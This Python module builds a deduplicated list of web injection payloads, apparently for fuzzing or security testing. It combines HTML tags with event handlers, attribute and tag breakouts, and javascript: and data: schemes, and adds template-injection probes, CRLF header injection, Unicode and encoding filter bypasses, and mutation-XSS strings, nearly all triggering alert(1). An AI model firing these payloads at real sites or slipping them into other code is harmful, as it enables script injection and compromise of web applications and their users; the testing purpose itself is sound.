"""Payloads: what somebody would write who wants a page to run it."""

from itertools import product

_SHOUT = "alert(1)"
_TAGS = [
    "a",
    "audio",
    "base",
    "body",
    "button",
    "details",
    "div",
    "embed",
    "form",
    "frameset",
    "iframe",
    "img",
    "input",
    "isindex",
    "keygen",
    "link",
    "marquee",
    "math",
    "meta",
    "object",
    "p",
    "portal",
    "script",
    "select",
    "style",
    "svg",
    "table",
    "textarea",
    "video",
    "x",
    "xml",
]
_EVENTS = [
    "onload",
    "onerror",
    "onfocus",
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onpointerenter",
    "ontoggle",
    "onbegin",
    "onend",
    "onrepeat",
    "onanimationstart",
    "onanimationend",
    "ontransitionend",
    "onbeforeinput",
    "onblur",
    "onchange",
    "oncopy",
    "oncut",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onpaste",
    "onscroll",
    "onstart",
    "onfinish",
    "onwheel",
    "onbeforetoggle",
]
_WAYS_OUT = (
    '"',
    "'",
    "`",
    '">',
    "'>",
    '"/>',
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</noscript>",
    "</template>",
    "</select>",
    "</svg>",
)
_BODIES = (
    f"<img src=x onerror={_SHOUT}>",
    f"<svg onload={_SHOUT}>",
    f"<script>{_SHOUT}</script>",
    f" onmouseover={_SHOUT} x=",
    f" autofocus tabindex=1 onfocus={_SHOUT} x=",
    f" style=animation-name:x onanimationstart={_SHOUT} ",
    " formaction=javascript:alert(1) ",
)
_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    "&#106;avascript:",
    "javascript&colon;",
    "&Tab;javascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "blob:",
    "feed:",
    "view-source:",
    "//example.org/",
    "\\\\example.org\\",
    "https:javascript:",
)
_ACTS = (
    _SHOUT,
    "//%0aalert(1)",
    f"<script>{_SHOUT}</script>",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
# 62615533 is what comes out where somebody multiplies; nowhere else.
_TEMPLATES = (
    "{{7919*7907}}",
    "${7919*7907}",
    "#{7919*7907}",
    "<%= 7919*7907 %>",
    "@(7919*7907)",
    "{% print 7919*7907 %}",
    "{{''.__class__.__mro__}}",
    "{{ self }}",
    "{{config}}",
    "%(x)s",
    "%s%n",
    "{0.__class__}",
    "{x}",
    "{# x #}",
    "{{constructor}}",
    "[[7919*7907]]",
    "{{'a'.constructor.prototype.charAt=[].join}}",
    "${{7919*7907}}",
    "*{7919*7907}",
)
_OTHERS = (
    "\r\nSet-Cookie: a=b",
    "%0d%0aSet-Cookie:%20a=b",
    "a\r\n\r\n<script>alert(1)</script>",
    "a\u2028alert(1)//",
    "\u2029<img src=x onerror=alert(1)>",
    "\u202e>tpircs<",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bcscript\u02ba",
    "\ufeff<svg>",
    "\u00bcscript\u00bealert(1)",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "+ADw-script+AD4-",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text>x</text></a>"
    ),
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<svg><use href='data:image/svg+xml,x#x'>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<table><td><p title="</p><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<style>@import'//example.org/x'</style>",
    "<style>*{background:url(//example.org)}</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<div style=width:expression(alert(1))>",
    "<link rel=stylesheet href=//example.org/x>",
    "<meta http-equiv=refresh content=0;url=//example.org>",
    "<base href=//example.org/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,x>",
    "<img src=//example.org/x>",
    "<button form=x formaction=javascript:alert(1)>x",
    "<input type=image src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<<img src=x onerror=alert(1)>>",
    "<img src='x'onerror=alert(1)//",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "</p><script>alert(1)//",
)


def payloads():
    """Return all of them, each once."""
    events = (
        f"<{tag} {event}={_SHOUT} src=x autofocus>"
        for tag, event in product(_TAGS, _EVENTS)
    )
    outs = (out + body for out, body in product(_WAYS_OUT, _BODIES))
    schemes = (scheme + act for scheme, act in product(_SCHEMES, _ACTS))
    return list(dict.fromkeys([*events, *outs, *schemes, *_TEMPLATES, *_OTHERS]))


def packed(texts, most):
    """Put texts together to longer ones of at most `most` characters."""
    pack = ""
    for text in texts:
        if pack and len(pack) + len(text) >= most:
            yield pack
            pack = ""
        pack = f"{pack} {text}" if pack else text
    yield pack
